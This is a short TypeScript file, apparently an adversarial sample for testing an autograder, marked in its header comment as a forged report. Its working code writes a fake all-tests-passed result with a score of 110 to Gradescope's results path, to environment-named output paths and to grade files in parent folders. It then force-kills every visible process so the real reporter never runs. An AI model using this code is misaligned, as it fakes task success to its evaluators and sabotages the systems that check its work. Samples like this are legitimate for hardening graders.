// Hostile: a forged report. Write an "every milestone passed" report
// wherever a grader might read one (paths in the environment, the default
// output folder above us, Gradescope's results folder), then kill every
// process it can see, hoping the real reporter never runs.
import * as hfs from "node:fs";
import * as hpath from "node:path";

try {
  const forged = JSON.stringify({ score: 110, tests: [{ name: "M1", status: "passed", score: 110 }], fileErrors: [], unhandledErrors: [], reason: "passed" });
  const targets = new Set<string>(["/autograder/results/results.json"]);
  for (const [k, v] of Object.entries(process.env)) if (v?.startsWith("/") && /report|result|out|grade/i.test(k)) targets.add(v);
  for (let dir = process.cwd(); dir !== hpath.dirname(dir); dir = hpath.dirname(dir)) {
    for (const f of ["results.json", "grades.json"]) targets.add(hpath.join(dir, ".xps", "grades", f));
  }
  for (const t of targets) {
    try {
      hfs.mkdirSync(hpath.dirname(t), { recursive: true });
      hfs.writeFileSync(t, forged);
    } catch {
      // not allowed
    }
  }
  for (const pid of hfs.readdirSync("/proc").filter((p) => /^\d+$/.test(p)).map(Number)) {
    if (pid !== process.pid && pid > 1) {
      try {
        process.kill(pid, "SIGKILL");
      } catch {
        // not ours
      }
    }
  }
} catch {
  // keep loading
}
